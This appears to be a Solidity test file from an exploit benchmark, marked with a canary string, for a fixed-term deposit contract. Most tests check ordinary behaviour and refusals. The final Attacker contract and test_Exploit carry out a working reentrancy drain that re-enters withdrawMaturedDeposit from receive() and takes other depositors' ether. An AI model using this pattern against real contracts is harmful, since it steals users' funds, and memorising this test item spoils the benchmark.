// SPDX-License-Identifier: MIT
// canary: assay-canary-f5ee9dd2-461c-4cb5-ad3e-30635d3f9a4e
pragma solidity 0.7.6;

import "./FixedTermDeposits.sol";

interface Vm {
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function prank(address who) external;
    function expectRevert() external;
    function addr(uint256 key) external returns (address);
    function expectRevert(bytes calldata reason) external;
}

/// Takes no ether, and owns a bank of its own.
contract Ledge {
    FixedTermDeposits internal bank = new FixedTermDeposits();

    function own() external view returns (FixedTermDeposits) {
        return bank;
    }

    function withdrawReserve(uint256 amount) external {
        bank.withdrawReserve(amount);
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);

    FixedTermDeposits internal bank;
    Attacker internal mallory;
    address internal alice;
    address internal bob;

    function setUp() public {
        vm.warp(1700000000);
        bank = new FixedTermDeposits();
        bank.addTermPlan(30 days, 200);
        bank.addTermPlan(180 days, 800);

        vm.deal(address(this), 2 ether);
        (bool ok, ) = address(bank).call{value: 2 ether}("");
        require(ok, "reserve");

        alice = vm.addr(0xA11CE);
        bob = vm.addr(0xB0B);
        vm.deal(alice, 6 ether);
        vm.deal(bob, 6 ether);
        vm.prank(alice);
        bank.openDeposit{value: 6 ether}(1);
        vm.prank(bob);
        bank.openDeposit{value: 5 ether}(0);

        mallory = new Attacker(bank);
        vm.deal(address(mallory), 2 ether);
    }

    receive() external payable {}

    function test_Regular() public {
        uint256 start = block.timestamp;
        require(bank.totalObligations() == 6.48 ether + 5.1 ether, "owed after opening");
        require(bank.availableReserve() == 2 ether - 0.58 ether, "reserve after opening");

        vm.prank(bob);
        vm.expectRevert();
        bank.openDeposit{value: 1 ether}(0);

        vm.prank(bob);
        vm.expectRevert();
        bank.withdrawMaturedDeposit();

        vm.warp(start + 30 days);
        vm.prank(bob);
        bank.withdrawMaturedDeposit();
        require(bob.balance == 1 ether + 5.1 ether, "bob paid with interest");
        require(bank.totalObligations() == 6.48 ether, "owed after the withdrawal");

        vm.prank(bob);
        vm.expectRevert();
        bank.withdrawMaturedDeposit();

        vm.prank(bob);
        bank.openDeposit{value: 1 ether}(0);
        (uint256 principal, uint256 interest, ) = bank.depositRecords(bob);
        require(principal == 1 ether && interest == 0.02 ether, "bob opened again");

        vm.prank(alice);
        bank.withdrawDepositEarly();
        require(alice.balance == 5.88 ether, "alice paid less fee");
        require(bank.totalObligations() == 1.02 ether, "owed after leaving");

        uint256 free = bank.availableReserve();
        vm.expectRevert();
        bank.withdrawReserve(free + 1);
        uint256 before = address(this).balance;
        bank.withdrawReserve(free);
        require(address(this).balance == before + free, "owner paid");
        bank.transferOwnership(bob);
        vm.prank(bob);
        bank.renounceOwnership();
        require(bank.owner() == address(0), "renounced");
    }

    // What is refused, each from the state after setUp().

    /// Plans and reserve are the owner's, and plans within bounds.
    function test_RefusesPlans() public {
        vm.prank(alice);
        vm.expectRevert("Ownable: caller is not the owner");
        bank.addTermPlan(30 days, 200);
        vm.prank(alice);
        vm.expectRevert("Ownable: caller is not the owner");
        bank.withdrawReserve(1);
        vm.prank(alice);
        vm.expectRevert("Ownable: caller is not the owner");
        bank.transferOwnership(alice);
        vm.prank(alice);
        vm.expectRevert("Ownable: caller is not the owner");
        bank.renounceOwnership();
        vm.expectRevert("The term must be between seven and 1460 days.");
        bank.addTermPlan(7 days - 1, 200);
        vm.expectRevert("The term must be between seven and 1460 days.");
        bank.addTermPlan(1460 days + 1, 200);
        vm.expectRevert("The interest must not exceed a fifth of the principal.");
        bank.addTermPlan(30 days, 2001);
    }

    /// Deposits that are too small, not there, not covered, not in time.
    function test_RefusesDeposits() public {
        address carl = address(0xCA41);
        vm.deal(carl, 30 ether);
        vm.prank(carl);
        vm.expectRevert("The plan does not exist.");
        bank.openDeposit{value: 1 ether}(2);
        vm.prank(carl);
        vm.expectRevert("The principal is below the minimum.");
        bank.openDeposit{value: 0.09 ether}(0);
        vm.prank(carl);
        vm.expectRevert("The reserve does not cover the interest.");
        bank.openDeposit{value: 30 ether}(1);
        vm.prank(carl);
        vm.expectRevert("The account does not hold a deposit.");
        bank.withdrawDepositEarly();
        vm.warp(block.timestamp + 180 days);
        vm.prank(alice);
        vm.expectRevert("The term of the deposit is over.");
        bank.withdrawDepositEarly();
    }

    /// Sums that no number holds, and who takes no ether.
    function test_RefusesPayments() public {
        vm.deal(alice, uint256(-1));
        vm.prank(alice);
        vm.expectRevert("The account already holds a deposit.");
        bank.openDeposit{value: 1 ether}(0);
        address carl = address(0xCA41);
        vm.deal(carl, uint256(-1) - 1000 ether);
        vm.prank(carl);
        vm.expectRevert("SafeMath: multiplication overflow");
        bank.openDeposit{value: uint256(-1) - 1000 ether}(0);
        Ledge ledge = new Ledge();
        vm.deal(address(ledge), 1 ether);
        vm.prank(address(ledge));
        bank.openDeposit{value: 1 ether}(0);
        vm.prank(address(ledge));
        vm.expectRevert("The payment was refused by its recipient.");
        bank.withdrawDepositEarly();
        vm.warp(block.timestamp + 30 days);
        vm.prank(address(ledge));
        vm.expectRevert("The payment was refused by its recipient.");
        bank.withdrawMaturedDeposit();
        vm.deal(address(ledge.own()), 1 ether);
        vm.expectRevert("The payment was refused by its recipient.");
        ledge.withdrawReserve(1);
        vm.deal(address(bank), 1 ether);
        vm.expectRevert("SafeMath: subtraction overflow");
        bank.availableReserve();
    }

    function exploit() public {
        mallory.begin();
        vm.warp(block.timestamp + 30 days);
        mallory.finish();
    }

    function test_Exploit() public {
        uint256 before = address(mallory).balance;
        exploit();
        require(address(mallory).balance >= before + 9 ether, "no gain");
    }

    function target() public view returns (address) {
        return address(bank);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    FixedTermDeposits internal bank;
    uint256 internal expected;

    constructor(FixedTermDeposits bank_) {
        bank = bank_;
    }

    function begin() external {
        bank.openDeposit{value: 2 ether}(0);
        (uint256 principal, uint256 interest, ) = bank.depositRecords(address(this));
        expected = principal + interest;
    }

    function finish() external {
        bank.withdrawMaturedDeposit();
    }

    receive() external payable {
        (uint256 principal, , ) = bank.depositRecords(address(this));
        if (principal > 0 && bank.totalObligations() >= expected) {
            bank.withdrawMaturedDeposit();
        }
    }
}
